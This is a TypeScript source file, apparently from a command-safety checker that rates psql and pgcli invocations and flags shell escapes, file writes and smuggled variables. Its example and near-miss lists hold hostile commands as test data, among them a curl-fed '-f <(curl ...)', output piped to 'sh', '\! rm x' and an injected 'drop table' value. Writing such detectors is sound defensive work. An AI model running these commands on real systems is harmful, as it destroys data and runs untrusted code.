// psql and pgcli: SQL goes to the SQL scanner, client commands are accepted by list, files and prompts are unknown.
import { type Arg, literalArg } from "../../arg.ts";
import type { Invocation } from "../../invocation.ts";
import { type Finding, type OptionRule, program, type RuleContext } from "../../rule.ts";
import { writeFinding } from "../../write-paths.ts";
import { checkConnections } from "./pg-connection.ts";
import { judgePsqlCommand, splitPsqlScript } from "./psql-script.ts";
import { judgeForgottenQuotes, judgeInput, onlyInforms } from "./sql-input.ts";

/** One -c: a client command, or SQL without any; psql does not look for variables in it. */
function inspectCommand(arg: Arg, ctx: RuleContext): void {
  if (arg.shape !== "literal" || !arg.text.trimStart().startsWith("\\")) {
    if (arg.shape === "literal" && /\\[a-zA-Z!;]/.test(arg.text))
      ctx.report({ risk: "unknown", why: "SQL mixed with client commands", span: arg.span });
    if (arg.shape === "literal" && /\\(!|gexec|copy|[gow]\s)/.test(arg.text))
      ctx.report({ risk: "dangerous", why: "a client command that runs or writes something", span: arg.span });
    return ctx.scanSql("postgresql", arg);
  }
  inspectMeta(arg.text.trim(), arg, ctx);
}

function inspectMeta(command: string, arg: Arg, ctx: RuleContext): void {
  const finding = judgePsqlCommand(command, (sql) => ctx.scanSql("postgresql", literalArg(sql, arg.span)));
  if (finding !== undefined) ctx.report({ ...finding, span: arg.span });
}

/** Standard input: statements and client commands, with variables put in. */
function inspectScript(arg: Arg, inv: Invocation, ctx: RuleContext): void {
  const script = splitPsqlScript(arg.text);
  if (script === undefined) return ctx.report({ risk: "unknown", why: "the quotes of the script cannot be told", span: arg.span });
  for (const command of script.commands) inspectMeta(command, arg, ctx);
  if (script.sql.trim() !== "") ctx.scanSql("postgresql", literalArg(script.sql, arg.span));
  if (inv.has("-v") && /(^|[^:]):[A-Za-z_'"{]/.test(arg.text))
    ctx.report({ risk: "unknown", why: "a variable is put into the statements", span: arg.span });
}

const isStandardInput = (arg: Arg): boolean => arg.shape === "literal" && (arg.text === "-" || arg.text === "/dev/stdin");

function inspectFiles(inv: Invocation, ctx: RuleContext): void {
  for (const file of inv.all("-f")) {
    if (isStandardInput(file)) judgeInput(inv, ctx, (text) => inspectScript(text, inv, ctx));
    else if (file.text.startsWith("<("))
      ctx.report({ risk: "dangerous", why: "runs the output of a command as statements", span: file.span });
    else ctx.report({ risk: "unknown", why: "the SQL is in a file that is not seen here", span: file.span });
  }
}

function inspect(inv: Invocation, ctx: RuleContext): void {
  const commands = inv.all("-c");
  for (const arg of commands) inspectCommand(arg, ctx);
  judgeForgottenQuotes(inv, ctx, commands);
  inspectFiles(inv, ctx);
  checkConnections(inv, ctx);
  if (commands.length > 0 || inv.has("-f") || onlyInforms(inv, ["-l", "-V", "--help"])) return;
  judgeInput(inv, ctx, (text) => inspectScript(text, inv, ctx));
}

const toFileOrCommand: OptionRule = {
  kind: "write",
  check: (value): Finding | undefined =>
    value.head.trimStart().startsWith("|")
      ? { risk: "dangerous", why: "feeds the result to a command of the shell" }
      : writeFinding(value, "writes a file", undefined, "leave the option out"),
  why: "writes a file",
};

const variable: OptionRule = {
  check: (value) =>
    value.shape === "literal" && !/^(PROMPT\d|HISTFILE|PSQL_EDITOR)/i.test(value.text)
      ? undefined
      : { risk: "unknown", why: "sets a variable that psql acts upon" },
};

export const psql = program({
  names: "psql",
  source: "psql(1), PostgreSQL 17; reference/command-safety.md 3.6",
  why: "asks a PostgreSQL server",
  flags:
    "-A|--no-align -t|--tuples-only -x|--expanded -X|--no-psqlrc -q|--quiet -w|--no-password -W|--password -l|--list -1|--single-transaction -H|--html -e|--echo-queries -E|--echo-hidden -b|--echo-errors -a|--echo-all --csv -V|--version -z|--field-separator-zero -0|--record-separator-zero -n|--no-readline -S|--single-line",
  values: "-h|--host -p|--port -U|--username -d|--dbname -F|--field-separator -R|--record-separator -P|--pset -T|--table-attr",
  optional: "--help|-?",
  options: {
    "-c|--command": { kind: "code", risk: "safe" },
    "-f|--file": { kind: "code", risk: "safe", why: "the SQL is in a file that is not seen here" },
    "-o|--output": toFileOrCommand,
    "-L|--log-file": { kind: "write", why: "writes a log file" },
    "-v|--set|--variable": variable,
    "-s|--single-step": { arity: "flag", risk: "unknown", why: "asks before each statement" },
  },
  operands: "data*",
  inspect,
  targets: (inv) => inv.operands.slice(0, 1).map((arg) => ({ kind: "database", name: arg.text })),
  noInverse: "what undoes a statement depends on the rows it changed; SELECT them before",
  examples: {
    "psql -l": "safe",
    "psql -XAtqc 'select count(*) from orders' -d shop": "safe",
    "psql -c '\\dt+' -c '\\d orders'": "safe",
    "psql -v ON_ERROR_STOP=1 -c 'select 1'": "safe",
    "psql postgresql://ro:pw@db1/shop -c 'select 1'": "safe",
    "psql shop <<'E'\n\\x on\nselect pid from pg_stat_activity \\gx\nE": "safe",
    "psql -c '\\copy (select 1) to stdout csv'": "safe",
    "psql -c '\\copy t to x'": "caution",
    "psql -o rows.txt -c 'select 1'": "caution",
    "psql -c '\\o rows.txt'": "caution",
    "psql -L log -l": "caution",
    "psql <<< 'select 1 \\watch 5'": "caution",
    "psql -c '\\! rm x'": "dangerous",
    "psql -o '|sh' -c 'select 1'": "dangerous",
    "psql -Xc 'select 1 \\gexec'": "dangerous",
    "cat fix.sql | psql shop": "dangerous",
    "psql -f x.sql": "unknown",
    "psql -s": "unknown",
  },
  nearMisses: [
    "psql",
    "psql -c '\\d `rm x`'",
    "psql -c '\\d \\! rm x'",
    "psql -c 'drop table x'",
    "psql -c 'select 1 \\g x'",
    "psql -v x='1; drop table t' <<< 'select :x'",
    "psql <<'E'\nselect 1 \\g |sh\nE",
    "psql -c '\\copy (delete from t returning *) to stdout'",
    "psql -f <(curl -s http://x)",
    'psql -c "select $1"',
    "psql 'host=a sslkey=pkcs11:evil' -c 'select 1'",
    "psql -c '\\i x.sql'",
    "psql -c 'select 1' 'host=a options=-crole=b'",
  ],
});

const pgcliInspect = (inv: Invocation, ctx: RuleContext): void => {
  if (onlyInforms(inv, ["--version", "--help", "--list", "--ping"])) return;
  ctx.report({ risk: "unknown", why: "opens a prompt", safer: "psql -c" });
};

export const pgcli = program({
  names: "pgcli|usql",
  source: "pgcli(1) 4.1",
  why: "asks a PostgreSQL server",
  flags: "--version|-v --help --list|-l --ping -w|--no-password -W|--password",
  values: "-h|--host -p|--port -U|--username|-u|--user -d|--dbname",
  operands: "data*",
  inspect: pgcliInspect,
  examples: { "pgcli --list -h db1": "safe", "pgcli shop": "unknown" },
  nearMisses: ["pgcli", "usql pg://x -c 'drop table t'"],
});
